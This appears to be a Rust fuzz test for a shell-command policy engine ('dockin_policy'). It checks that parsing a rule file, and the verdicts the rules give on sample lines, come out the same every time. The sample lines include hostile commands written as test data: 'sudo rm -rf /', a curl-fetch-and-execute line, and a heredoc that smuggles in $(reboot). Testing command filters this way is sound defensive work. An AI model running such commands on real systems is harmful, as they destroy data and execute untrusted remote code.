use dockin_policy::{RuleSet, SessionState, Subject, judge_line};

/// A rule file.
///
/// It is refused with a text, or it judges, and the same file judges the same.
///
/// # Panics
///
/// A law is broken.
pub fn rule_set(data: &[u8]) {
    let Ok(text) = std::str::from_utf8(data) else {
        return;
    };
    let (rules, again) = match (RuleSet::parse(text), RuleSet::parse(text)) {
        (Ok(rules), Ok(again)) => (rules, again),
        (Err(error), Err(again)) => {
            assert_eq!(error.to_string(), again.to_string(), "the error changed");
            assert!(!error.to_string().is_empty());
            return;
        }
        _ => panic!("the verdict on the file changed"),
    };
    let subject = Subject::default();
    for line in LINES {
        let verdict = judge_line(&rules, &subject, line, &mut SessionState::default());
        let second = judge_line(&again, &subject, line, &mut SessionState::default());
        assert_eq!(format!("{verdict:?}"), format!("{second:?}"));
    }
}

const LINES: [&[u8]; 6] = [
    b"",
    b"ls -la /tmp",
    b"sudo rm -rf / && echo done",
    b"x=$(curl -s https://example.com) sh -c \"$x\"",
    b"cat <<E\n$(reboot)\nE\n",
    b"\xff\xfe '",
];
